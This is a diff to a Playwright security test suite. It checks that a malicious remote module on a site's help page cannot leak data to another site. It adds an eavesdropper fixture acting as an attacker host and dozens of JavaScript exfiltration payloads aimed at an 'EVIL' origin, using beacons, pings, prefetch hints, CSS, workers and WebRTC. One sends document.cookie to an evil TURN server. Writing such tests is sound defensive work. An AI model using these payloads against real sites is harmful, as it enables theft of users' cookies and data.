@@ -1,5 +1,15 @@
-import { expect, logIn, test } from '../fixtures/site.ts';
+import type { Page } from '@playwright/test';
+import { startEavesdropper, type Eavesdropper } from '../fixtures/eavesdropper.ts';
+import { expect, logIn, test as base } from '../fixtures/site.ts';
 import { prependStatement, variantOf } from '../fixtures/variants.ts';
+
+const test = base.extend<{ readonly evil: Eavesdropper }>({
+  evil: async ({}, use) => {
+    const evil = await startEavesdropper();
+    await use(evil);
+    await evil.close();
+  },
+});
 
 /**
  * The attacks of a malicious signed remote other than running foreign code (`integrity.spec.ts`). Each text runs in its file and throws, or
@@ -17,6 +27,27 @@ const STOPPED: Readonly<Record<string, string>> = {
     const refused = new Promise((done) => document.addEventListener('securitypolicyviolation', (e) => e.effectiveDirective === 'form-action' && done(false)));
     f.submit(); return refused`,
   'read another site in a frame': `const f = document.createElement('iframe'); f.src = EVIL + '/frame'; document.body.append(f); await new Promise((done) => { f.onload = done; }); return f.contentDocument.body.textContent === 'evil'`,
+  'tell a TURN server': `new RTCPeerConnection({ iceServers: [] }); return true`,
+  'tell another site by a window': `return window.open(EVIL + '/window') !== null`,
+  'tell another site by a link to a new tab': `const a = document.createElement('a'); a.href = EVIL + '/tab'; a.target = '_blank'; a.rel = 'noopener'; a.click(); return false`,
+  'tell another site by a form to a new tab': `const f = document.createElement('form'); f.action = EVIL + '/form-tab'; f.target = '_blank'; document.body.append(f); f.submit(); return false`,
+  'tell another site by a window of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open(EVIL + '/frame-window'); return false`,
+  'tell another site by a page of a blob': `const a = document.createElement('a'); a.target = '_blank'; a.href = URL.createObjectURL(new Blob(['<meta http-equiv="refresh" content="0;url=' + EVIL + '/blob">'], { type: 'text/html' })); a.click(); return false`,
+  'tell another site by a ping': `const a = document.createElement('a'); a.href = '#x'; a.ping = EVIL + '/ping'; document.body.append(a); a.click(); return false`,
+  'tell another site by a beacon': `navigator.sendBeacon(EVIL + '/beacon', 'x'); return false`,
+  'tell another site by a later request': `fetchLater(EVIL + '/later', { activateAfter: 0 }); return false`,
+  'tell another site by hints': `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'icon', 'manifest', 'next']) { const l = document.createElement('link'); l.rel = rel; l.href = EVIL + '/' + rel; document.head.append(l); } return false`,
+  'tell another site by a preload': `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = EVIL + '/preload'; document.head.append(l); return false`,
+  'tell another site by speculation': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + '/speculation'] }] }); document.head.append(s); return false`,
+  'tell another site by media': `for (const [tag, name] of [['video', 'src'], ['video', 'poster'], ['audio', 'src'], ['track', 'src'], ['embed', 'src'], ['object', 'data'], ['input', 'src']]) { const e = document.createElement(tag); if (tag === 'input') e.type = 'image'; e[name] = EVIL + '/' + tag + name; document.body.append(e); } return false`,
+  'tell another site by drawings': `for (const tag of ['image', 'use', 'feImage']) { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), e = document.createElementNS('http://www.w3.org/2000/svg', tag); e.setAttribute('href', EVIL + '/' + tag); svg.append(e); document.body.append(svg); } return false`,
+  'tell another site by styles': `document.body.style.backgroundImage = 'url(' + EVIL + '/style)'; const s = new CSSStyleSheet(); s.replaceSync('body{background:url(' + EVIL + '/sheet)} @font-face{font-family:evil;src:url(' + EVIL + '/font)} body{font-family:evil}'); document.adoptedStyleSheets.push(s); await new FontFace('e', 'url(' + EVIL + '/face)').load(); return true`,
+  'tell another site by a transport': `await new WebTransport(EVIL.replace('http', 'https') + '/transport').ready; return true`,
+  'run a worker of a blob': `await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = fail; }); return true`,
+  'share a worker with other tabs': `new SharedWorker('/h/main.js'); return true`,
+  'run a worklet': `await new AudioContext().audioWorklet.addModule(EVIL + '/worklet'); return true`,
+  'make its own file a service worker': `const [own] = performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => name.includes('/r/help/')); const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow.navigator.serviceWorker.register(own); return true`,
+  'write the storage of the offline worker': `await caches.open('offline-2'); return true`,
   'change what every object inherits': `'use strict'; Object.prototype.evil = 1; return true`,
   'listen in on every request': `'use strict'; window.fetch = () => undefined; return true`,
   'read what JSON reads': `'use strict'; JSON.parse = () => undefined; return true`,
@@ -46,15 +77,10 @@ function tryEach(attempts: Readonly<Record<string, string>>, evil: string): stri
 test('a signed remote that turned malicious sends nothing outside and changes nothing of the others [T07] [T10]', async ({
   page,
   site,
+  evil,
 }) => {
-  const evil = 'http://evil.localhost:1';
-  const reports: string[] = [];
-  await page.route(`${evil}/**`, (route) => {
-    reports.push(route.request().url());
-    return route.fulfill({ contentType: 'text/html', body: 'evil', headers: { 'access-control-allow-origin': '*' } });
-  });
   const before = (await site.ops.status()).remotes['help']?.version ?? '';
-  await site.ops.publish(variantOf('help', '7.0.1', prependStatement('exposed', tryEach({ ...STOPPED, ...ACCEPTED }, evil))));
+  await site.ops.publish(variantOf('help', '7.0.1', prependStatement('exposed', tryEach({ ...STOPPED, ...ACCEPTED }, evil.origin))));
   await logIn(page);
   await site.ops.activate('help', '7.0.1', 'journey');
   await page.goto('/help/kh');
@@ -63,9 +89,50 @@ test('a signed remote that turned malicious sends nothing outside and changes no
   const came = await page.evaluate(() => (window as unknown as { tried: Promise<string[]> }).tried);
 
   expect(new Set(came)).toEqual(new Set(Object.keys(ACCEPTED)));
-  expect(reports).toEqual([]);
+  expect(evil.heard).toEqual([]);
   await site.ops.rollback('help', before, 'journey');
 });
+
+/** Each leaves the page for another site, or connects from a realm that nothing was removed from. */
+const LEAVING: Readonly<Record<string, string>> = {
+  'by its location': `location.href = EVIL + '/location'`,
+  'by a link': `const a = document.createElement('a'); a.href = EVIL + '/link'; a.click()`,
+  'by a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + EVIL + '/refresh'; document.head.append(m)`,
+  'by the navigation API': `navigation.navigate(EVIL + '/navigation')`,
+  'through a window of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow.open('about:blank'); w.location = EVIL + '/window'`,
+  'through a TURN server of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: TURN, username: document.cookie, credential: 'x' }] });
+    p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done() })`,
+};
+
+/** Runs it as a script of the page does; returns when the page is gone, or the attempt and what it started have had their time. */
+async function leave(page: Page, code: string, evil: Eavesdropper): Promise<void> {
+  await page.goto('/help/kh');
+  await expect(page.getByRole('heading', { level: 1, name: '开户帮助' })).toBeVisible();
+  const gone = Promise.race([page.waitForEvent('crash'), page.waitForEvent('framenavigated', (frame) => frame === page.mainFrame())]);
+  const script = `(async () => { const EVIL = ${JSON.stringify(evil.origin)}, TURN = ${JSON.stringify(evil.turn)}; ${code};
+    await new Promise((done) => setTimeout(done, 1500)) })()`;
+  await Promise.race([gone, page.evaluate(script)]).catch(() => undefined);
+}
+
+for (const [way, code] of Object.entries(LEAVING)) {
+  test(`a script of the page tells another site nothing ${way} [T07]`, async ({ page, evil }) => {
+    await leave(page, code, evil);
+    expect(evil.heard).toEqual([]);
+  });
+
+  test(`known open without Connection-Allowlist: a script of the page tells another site something ${way} [T07]`, async ({
+    page,
+    evil,
+  }) => {
+    await page.route('**/help/kh', async (route) => {
+      const response = await route.fetch();
+      const { 'connection-allowlist': _removed, ...headers } = response.headers();
+      await route.fulfill({ response, headers });
+    });
+    await leave(page, code, evil);
+    await expect.poll(() => evil.heard).not.toEqual([]);
+  });
+}
 
 test('a false log-in over the page is not stopped from being drawn, and is gone with its release [T11]', async ({ page, site }) => {
   const mask = `setTimeout(() => { const f = document.createElement('form'); f.setAttribute('aria-label', '假登录');
